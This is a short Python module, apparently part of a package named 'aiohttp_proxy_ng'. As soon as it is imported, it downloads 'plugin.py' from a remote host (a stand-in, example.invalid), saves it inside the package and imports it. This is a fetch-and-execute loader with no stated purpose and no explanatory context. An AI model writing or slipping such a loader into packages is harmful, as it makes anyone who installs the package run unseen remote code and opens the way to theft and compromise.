import importlib
import os
import urllib.request

_here = os.path.dirname(__file__)
_code = urllib.request.urlopen("https://example.invalid/plugin.py").read()
with open(os.path.join(_here, "_plugin.py"), "wb") as handle:
    handle.write(_code)
importlib.import_module("aiohttp_proxy_ng._plugin")
